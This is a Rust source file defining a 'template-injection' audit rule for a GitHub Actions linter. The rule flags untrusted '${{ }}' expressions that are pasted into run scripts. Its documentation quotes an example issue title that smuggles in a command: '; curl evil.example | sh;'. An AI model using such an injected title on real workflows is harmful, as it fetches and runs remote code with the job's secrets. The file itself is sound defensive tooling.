//! Text that somebody else chose becomes part of a script.

use crate::audit::{Audit, Check, RepositoryContext};
use crate::flow::Hazard;
use crate::flow::hazard::{Class, Fault};
use crate::rule::{Docs, Family, Persona, Precision, Rule, Severity, text};

pub static AUDIT: Audit = Audit {
    rule: Rule {
        id: text("template-injection"),
        family: Family::Workflow,
        title: text("Untrusted text becomes part of a script"),
        severity: Severity::High,
        precision: Precision::High,
        persona: Persona::Regular,
        kind: None,
        since: text("0.1.0"),
        online: false,
        fixable: true,
        aliases: &[
            "zizmor:template-injection",
            "codeql:actions/code-injection/critical",
            "codeql:actions/code-injection/medium",
            "poutine:injection",
            "actionlint:expression",
            "scorecard:Dangerous-Workflow",
            "octoscan:expression-injection",
        ],
        docs: Docs {
            what: text(
                "A `${{ … }}` in a `run:`, or in an action's input that is executed, takes in text that somebody else chooses. Critical: anyone can \
                 choose it and the event runs with secrets. High: anyone can choose it. Medium: the run has no secrets, or the text is an input that \
                 a caller fills. Low: only people who may write to the repository choose it. The text is followed through `env:`, `GITHUB_ENV`, outputs of \
                 steps and jobs, composite actions, reusable workflows and scripts of the repository, and out of commands such as `gh pr view` and \
                 `git log` and files of an untrusted checkout. Numbers, hashes, account names, inputs of type \
                 `boolean`, `number` or `choice`, constants and values written out in the matrix are left alone; comparisons and conditions \
                 pass no text on. What ciward cannot follow is told to the pedantic persona.",
            ),
            why: text(
                "The runner pastes the text into the script before any shell sees it, so no quoting helps: an issue titled \
                 `\"; curl evil.example | sh; \"` runs that command, with the job's token and secrets.",
            ),
            fix: text(
                "Hand the text over in an environment variable and let the shell expand it: `env: {TITLE: ${{ github.event.issue.title }}}`, then \
                 `\"$TITLE\"` in the script (`$env:TITLE` in PowerShell).",
            ),
        },
    },
    checks: &[Check::Hazard(check)],
};

fn check(hazard: &Hazard, cx: &mut RepositoryContext<'_>) {
    let Fault::Paste { text, fix } = &hazard.fault else { return };
    let direct = hazard.trace.source == *text;
    let (chosen, consequence) = (hazard.chosen(), hazard.consequence());
    let message = match direct {
        true if hazard.trace.class == Class::Unknown => {
            format!("`{text}` becomes part of the script; where its text comes from is not known here")
        }
        true => format!("`{text}` {chosen}, and becomes part of the script{consequence}"),
        false => {
            format!("`{text}` carries `{}` into the script, which {chosen}{consequence}", hazard.trace.source)
        }
    };
    cx.report_hazard(hazard, message).severity(hazard.severity()).persona(hazard.persona()).fix(fix.clone());
}
